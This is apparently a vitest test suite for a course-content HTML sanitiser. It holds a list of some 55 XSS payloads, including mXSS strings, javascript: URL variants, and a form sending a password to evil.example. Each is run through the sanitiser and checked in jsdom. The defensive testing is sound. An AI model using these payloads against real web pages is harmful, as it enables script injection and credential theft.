import { readdir, readFile } from 'node:fs/promises';
import { join, relative } from 'node:path';
import fc from 'fast-check';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { createSanitiser } from '../../renderer/src/ui/rich-text';

/**
 * Rich text from Learn (content bodies, announcements, calendar descriptions) is written by anyone
 * with edit rights in a course. The one sanitiser (renderer/src/ui/rich-text.ts) gets the usual
 * XSS payloads (OWASP filter-evasion cheat sheet, DOMPurify's mXSS classics), and what comes out
 * is checked structurally (no script-capable element, handler, style or unsafe URL) and by running
 * it in a script-enabled jsdom, where any payload that fires sets a flag.
 */
const { window } = new JSDOM('');
const sanitise = createSanitiser(window);

const FIRE = 'top.__xss=1';
const PAYLOADS = [
  `<script>${FIRE}</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<scr<script>ipt>${FIRE}</script>`,
  `<img src=x onerror="${FIRE}">`,
  `<IMG SRC=# onmouseover="${FIRE}">`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<svg onload="${FIRE}"><circle r="1"/></svg>`,
  `<svg><script>${FIRE}</script></svg>`,
  `<body onload="${FIRE}">`,
  `<details open ontoggle="${FIRE}">x</details>`,
  `<input autofocus onfocus="${FIRE}">`,
  `<video><source onerror="${FIRE}"></video>`,
  `<a href="javascript:${FIRE}">click</a>`,
  `<a href="JaVaScRiPt:${FIRE}">mixed case</a>`,
  `<a href=" javascript:${FIRE}">leading space</a>`,
  `<a href="jav&#x09;ascript:${FIRE}">tab</a>`,
  `<a href="jav&#x0A;ascript:${FIRE}">newline</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${FIRE}">decimal entities</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${FIRE}">hex entities</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${FIRE}">padded entities</a>`,
  `<a href="java\u0000script:${FIRE}">nul</a>`,
  `<a href="vbscript:msgbox(1)">vbscript</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<a href="DATA:text/html,<script>${FIRE}</script>">data link upper</a>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src=" DATA:image/svg+xml,<svg onload=${FIRE}>">`,
  `<img src="javascript:${FIRE}">`,
  `<img srcset="javascript:${FIRE} 1x">`,
  `<a href="//evil.example/phish">protocol-relative</a>`,
  `<a href="file:///etc/passwd">file</a>`,
  `<style>@import 'https://evil.example/x.css'; body{background:url("javascript:${FIRE}")}</style>`,
  `<div style="background-image:url(javascript:${FIRE})">styled</div>`,
  `<p style="position:fixed;inset:0">overlay</p>`,
  `<iframe src="javascript:${FIRE}"></iframe>`,
  `<iframe srcdoc="<script>${FIRE}</script>"></iframe>`,
  `<object data="javascript:${FIRE}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example/steal"><input name=pw><button>Send</button></form>`,
  `<form><button formaction="javascript:${FIRE}">go</button></form>`,
  `<isindex action="javascript:${FIRE}" type=submit>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${FIRE}">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<template><script>${FIRE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${FIRE}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${FIRE}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${FIRE}&gt;">`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${FIRE} src=1>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${FIRE}>`,
  `<a href="https://ok.example/" target="_self" rel="opener">opener</a>`,
  `<area href="javascript:${FIRE}">`,
  `<a xlink:href="javascript:${FIRE}">xlink</a>`,
  `<div data-bind="html: evil">data attribute</div>`,
  `<img src="x" onerror="${FIRE}"//`,
  `"><img src=x onerror=${FIRE}>`,
];

const FORBIDDEN_TAGS = new Set(['SCRIPT', 'STYLE', 'IFRAME', 'FRAME', 'OBJECT', 'EMBED', 'FORM', 'INPUT', 'BUTTON', 'TEXTAREA', 'SELECT', 'META', 'BASE', 'LINK', 'SVG', 'MATH', 'TEMPLATE', 'NOSCRIPT', 'ISINDEX', 'BODY']);
const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'background', 'poster', 'data', 'cite', 'longdesc', 'srcset']);
const SAFE_URL = /^(?:https?:|mailto:|#)/i;
const SAFE_IMAGE_DATA = /^data:image\/(?:png|gif|jpeg|webp);/i;

/** Every way the output could still run script, load from elsewhere or restyle the app. */
const inspector = new JSDOM('<!doctype html><body></body>').window.document;
function problemsIn(html: string): string[] {
  // Parsed as the renderer parses {@html}: innerHTML of an element in an HTML document.
  const host = inspector.createElement('div');
  host.innerHTML = html;
  const problems: string[] = [];
  for (const el of Array.from(host.querySelectorAll('*'))) {
    if (FORBIDDEN_TAGS.has(el.tagName.toUpperCase())) problems.push(`<${el.tagName.toLowerCase()}>`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`${name} handler`);
      if (name === 'style') problems.push('style attribute');
      if (name.startsWith('data-')) problems.push(name);
      if (URL_ATTRS.has(name)) {
        // Browsers ignore whitespace and control characters in a URL's scheme: so does this check.
        // eslint-disable-next-line no-control-regex
        const value = attr.value.replace(/[\s\u0000-\u001f]/g, '');
        const imageData = el.tagName === 'IMG' && name === 'src' && SAFE_IMAGE_DATA.test(value);
        if (value !== '' && !SAFE_URL.test(value) && !imageData) problems.push(`${name}="${attr.value}"`);
      }
    }
    if (el.tagName === 'A' && el.hasAttribute('href')) {
      const rel = (el.getAttribute('rel') ?? '').split(/\s+/);
      if (!rel.includes('noopener') || !rel.includes('noreferrer') || rel.includes('opener')) problems.push(`link rel="${el.getAttribute('rel') ?? ''}"`);
    }
  }
  return problems;
}

/** Renders the output where scripts and handlers run, and reports whether anything fired. */
async function fires(html: string): Promise<boolean> {
  const dom = new JSDOM(`<!doctype html><body></body>`, { runScripts: 'dangerously' });
  const win = dom.window as unknown as { __xss?: number; document: Document };
  win.document.body.innerHTML = html;
  for (const el of Array.from(win.document.body.querySelectorAll('*'))) {
    for (const type of ['load', 'error', 'focus', 'toggle', 'mouseover', 'click']) el.dispatchEvent(new dom.window.Event(type));
  }
  await new Promise((resolve) => setTimeout(resolve, 0));
  const fired = win.__xss === 1;
  dom.window.close();
  return fired;
}

describe('the rich-text sanitiser against XSS payloads', { timeout: 30_000 }, () => {
  it.each(PAYLOADS)('neutralises %s', async (payload) => {
    const out = sanitise(payload);
    expect(problemsIn(out)).toEqual([]);
    expect(out).not.toMatch(/javascript:|vbscript:|onerror|onload|<script/i);
    expect(await fires(out)).toBe(false);
  });

  it('the checks themselves catch an unsanitised payload (they can fail)', async () => {
    expect(problemsIn(`<img src=x onerror="${FIRE}"><a href="javascript:x">x</a>`)).toEqual(['src="x"', 'onerror handler', 'href="javascript:x"', 'link rel=""']);
    expect(await fires(`<img src=x onerror="${FIRE}">`)).toBe(true);
  });

  it('keeps what a course page needs: formatting, lists, tables, headings, safe links and pictures', () => {
    const html =
      '<h2>Week 3</h2><p><strong>Read</strong> <em>chapter 4</em>.</p><ul><li>one</li></ul>' +
      '<table><tr><th>Due</th></tr><tr><td>Friday</td></tr></table>' +
      '<a href="https://learn.example.edu/syllabus">Syllabus</a> <a href="mailto:prof@example.edu">Email</a> <a href="#top">Top</a>' +
      '<img src="https://learn.example.edu/pic.png" alt="Diagram"><img src="data:image/png;base64,iVBORw0KGgo=" alt="Inline">';
    const out = sanitise(html);
    for (const kept of ['<h2>Week 3</h2>', '<strong>Read</strong>', '<em>chapter 4</em>', '<li>one</li>', '<th>Due</th>', 'alt="Inline"', 'href="mailto:prof@example.edu"', 'href="#top"']) {
      expect(out).toContain(kept);
    }
    const doc = new JSDOM(out).window.document;
    const link = doc.querySelector('a[href="https://learn.example.edu/syllabus"]');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link?.getAttribute('target')).toBe('_blank');
    // A picture from another site is never loaded (the CSP would refuse it): it becomes a link that says what it shows.
    expect(doc.querySelector('img[src^="https:"]')).toBeNull();
    const picture = doc.querySelector('a[href="https://learn.example.edu/pic.png"]');
    expect(picture?.textContent).toBe('Picture: Diagram (opens outside Rollbook)');
    expect(picture?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('renames ids and names, so Learn HTML cannot clobber the page’s globals (id="rollbook" is not the bridge)', () => {
    const out = sanitise('<p id="rollbook">Release rules</p><a name="rollbook" href="https://ok.example/">x</a><img name="adoptLaunchKey" src="data:image/png;base64,AAAA">');
    expect(out).toContain('id="user-content-rollbook"');
    expect(out).not.toMatch(/(?:id|name)="(?:rollbook|adoptLaunchKey)"/);
    // Put on a page, nothing named `rollbook` appears on its window (the clobbering the bridge met in browser mode).
    const page = new JSDOM('<body></body>');
    page.window.document.body.innerHTML = out;
    expect((page.window as unknown as Record<string, unknown>)['rollbook']).toBeUndefined();
  });

  it('drops style blocks before parsing, closed or not', () => {
    expect(sanitise('<p>a</p><STYLE>p{color:red}</style ><p>b</p><style>p{}')).toBe('<p>a</p><p>b</p>');
  });

  it('holds for random mixes of payload fragments and ordinary markup (property)', () => {
    const fragment = fc.oneof(fc.constantFrom(...PAYLOADS), fc.constantFrom('<p>', '</p>', '<b>', '</b>', '<a href="https://ok.example/">', '</a>', '<!--', '-->', '<![CDATA[', ']]>', '"', "'", '<', '>', '&lt;', '<math>', '<svg>', '<table>', '<select>', '<textarea>', '<noembed>', '<xmp>'), fc.string());
    fc.assert(
      fc.property(fc.array(fragment, { minLength: 1, maxLength: 6 }), (parts) => {
        const out = sanitise(parts.join(''));
        // Sanitising twice changes nothing more (no mutation-based XSS left to unfold).
        return problemsIn(out).length === 0 && problemsIn(sanitise(out)).length === 0;
      }),
      { numRuns: 1000 },
    );
  }, 60_000);
});

describe('every {@html} in the renderer goes through the sanitiser', () => {
  it('is used only by RichText.svelte, which sanitises first', async () => {
    const root = join(process.cwd(), 'renderer/src');
    const users: string[] = [];
    const walk = async (dir: string): Promise<void> => {
      for (const entry of await readdir(dir, { withFileTypes: true })) {
        const path = join(dir, entry.name);
        if (entry.isDirectory()) await walk(path);
        else if (entry.name.endsWith('.svelte') && (await readFile(path, 'utf8')).includes('{@html')) users.push(relative(root, path));
      }
    };
    await walk(root);
    expect(users).toEqual(['ui/RichText.svelte']);
    expect(await readFile(join(root, 'ui/RichText.svelte'), 'utf8')).toMatch(/\{@html safe\}[\s\S]*|safe = \$derived\(sanitiseRichText\(html\)\)/);
  });
});
